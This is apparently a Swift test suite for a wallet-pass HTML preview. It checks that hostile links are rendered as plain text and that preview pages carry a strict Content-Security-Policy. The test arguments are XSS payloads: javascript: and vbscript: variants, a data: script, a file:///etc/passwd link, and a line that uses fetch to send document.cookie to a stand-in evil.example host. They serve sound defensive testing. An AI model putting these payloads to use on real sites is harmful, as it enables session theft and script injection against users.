import Foundation
import Testing
import PassModel
@testable import PassArchive
@testable import PassMint
@testable import PassPreview
import PassMintTestSupport

/// A pass is data from outside: its preview links only to web, mail and phone addresses, and the page carries a
/// policy that runs no script and loads nothing (issue 20, item 7).
@Suite("Preview: links and Content-Security-Policy")
struct PreviewLinkTests {
    typealias S = PreviewTestSupport

    /// Every `href` value in `html`, entities decoded as a browser decodes attribute values.
    static func hrefs(_ html: String) -> [String] {
        html.components(separatedBy: "href=\"").dropFirst().map { part in
            String(part.prefix { $0 != "\"" }).replacingOccurrences(of: "&quot;", with: "\"")
                .replacingOccurrences(of: "&#39;", with: "'").replacingOccurrences(of: "&lt;", with: "<")
                .replacingOccurrences(of: "&gt;", with: ">").replacingOccurrences(of: "&amp;", with: "&")
        }
    }

    /// True when `href` starts with one of the four allowed schemes, as the test reads it (independently of
    /// `HTMLText.safeLink`).
    static func allowed(_ href: String) -> Bool {
        let lower = href.lowercased()
        return ["http://", "https://", "tel:", "mailto:"].contains { lower.hasPrefix($0) }
    }

    /// A JSON string literal.
    static func json(_ s: String) -> String { JSONWriter.string(.string(s), pretty: false) }

    /// A store card with `href` in a back field's attributedValue, as a back field's plain value, and as the URL of
    /// a featured action.
    static func pass(href: String) -> String {
        S.pass(
            top: """
                "featuredActions": [{"identifier": "a", "type": "order", "url": \(json(href))}]
                """,
            fields: """
                "primaryFields": [{"key": "p", "value": 1}],
                "backFields": [{"key": "card", "label": "CARD", "value": "x",
                                "attributedValue": \(json("<a href=\"\(href)\">Your card</a>"))},
                               {"key": "plain", "label": "PLAIN", "value": \(json("Go to \(href) now"))}]
                """)
    }

    @Test(
        "javascript:, data:, file:, vbscript: and relative links are shown as text, never as a link",
        arguments: [
            "javascript:alert(document.domain)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
            "java\tscript:alert(1)", "\u{1}javascript:alert(1)", "javascript&#58;alert(1)",
            "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "page.html",
            "//evil.example/x", "#top",
        ])
    func hostileLinks(href: String) throws {
        let doc = try PassPreview.document([S.source(Self.pass(href: href))], options: PreviewOptions(showBack: true))
        let links = Self.hrefs(doc.html)
        #expect(links.allSatisfy(Self.allowed), "\(links)")
        #expect(!doc.html.lowercased().contains("href=\"java"))
        #expect(doc.html.contains(">Your card<"))  // the link's text is still shown
        #expect(doc.html.contains("data-type=\"order\""))  // the action's button is drawn, without a link
    }

    @Test(
        "http, https, tel and mailto links stay links",
        arguments: [
            "https://beanthere.example/card", "HTTP://beanthere.example", "tel:+15550100",
            "mailto:hi@beanthere.example",
        ])
    func allowedLinks(href: String) throws {
        let doc = try PassPreview.document([S.source(Self.pass(href: href))], options: PreviewOptions(showBack: true))
        let links = Self.hrefs(doc.html)
        // The attributedValue's link and the action's (and a web address in the plain value, detected).
        #expect(links.filter { $0 == href }.count >= 2, "\(links)")
        #expect(links.allSatisfy(Self.allowed))
    }

    @Test("a member's value in a template's <a href=\"{{memberNumber}}\"> cannot make a javascript: link")
    func memberValueInLink() throws {
        try withTemporaryDirectory { dir in
            let icon = try #require(
                FileManager.default.contents(atPath: PackagePaths.template("loyalty") + "/icon.png"))
            try icon.write(to: URL(fileURLWithPath: dir + "/icon.png"))
            try Data(
                """
                {"formatVersion": 1, "passTypeIdentifier": "pass.test.links", "teamIdentifier": "T",
                 "serialNumber": "{{serialNumber}}", "organizationName": "Bean There", "description": "links",
                 "storeCard": {"primaryFields": [{"key": "p", "value": "{{memberNumber}}"}],
                   "backFields": [{"key": "card", "label": "CARD", "value": "{{memberNumber}}",
                                   "attributedValue": "<a href=\\"{{memberNumber}}\\">Your card</a>"}]}}
                """.utf8
            ).write(to: URL(fileURLWithPath: dir + "/pass.json"))
            let value = "javascript:fetch('//evil.example/'+document.cookie)"
            let source = try #require(try PreviewSource.load(path: dir, record: ["memberNumber": value]).first)
            let doc = try PassPreview.document([source], options: PreviewOptions(showBack: true))
            #expect(Self.hrefs(doc.html).isEmpty)
            #expect(doc.html.contains(">Your card<"))
        }
    }

    /// The policy of the page's `<meta http-equiv="Content-Security-Policy">`, as directive → sources.
    static func policy(_ html: String) throws -> [String: [String]] {
        let marker = "<meta http-equiv=\"Content-Security-Policy\" content=\""
        let start = try #require(html.range(of: marker))
        // The policy must come before anything it governs: in the head, before any style or image.
        #expect(!html[..<start.lowerBound].contains("<style") && !html[..<start.lowerBound].contains("<img"))
        let content = html[start.upperBound...].prefix { $0 != "\"" }.replacingOccurrences(of: "&#39;", with: "'")
        var out: [String: [String]] = [:]
        for directive in content.split(separator: ";") {
            let words = directive.split(separator: " ").map(String.init)
            if let name = words.first { out[name] = Array(words.dropFirst()) }
        }
        return out
    }

    @Test("preview pages and galleries carry a strict Content-Security-Policy and no script")
    func contentSecurityPolicy() throws {
        let doc = try PassPreview.document(
            [S.source(Self.pass(href: "https://e.example"))], options: PreviewOptions(showBack: true))
        let policy = try Self.policy(doc.html)
        #expect(policy["default-src"] == ["'none'"])
        #expect(policy["script-src"] == nil)  // falls back to default-src 'none'
        #expect(policy["img-src"] == ["data:"])
        #expect(policy["style-src"] == ["'unsafe-inline'"])
        #expect(policy["base-uri"] == ["'none'"] && policy["form-action"] == ["'none'"])
        #expect(!doc.html.contains("<script"))
        try withTemporaryDirectory { dir in
            try FileManager.default.createDirectory(atPath: dir + "/passes", withIntermediateDirectories: true)
            let files = [ArchiveEntry(name: "pass.json", bytes: Array(Self.pass(href: "https://e.example").utf8))]
            try Data(try VerifyTestSupport.makePass(files)).write(to: URL(fileURLWithPath: dir + "/passes/a.pkpass"))
            _ = try PreviewGallery.write(folder: dir + "/passes", to: dir + "/gallery.html")
            let gallery = try String(contentsOfFile: dir + "/gallery.html", encoding: .utf8)
            #expect(try Self.policy(gallery)["default-src"] == ["'none'"])
            #expect(!gallery.contains("<script"))
        }
    }
}
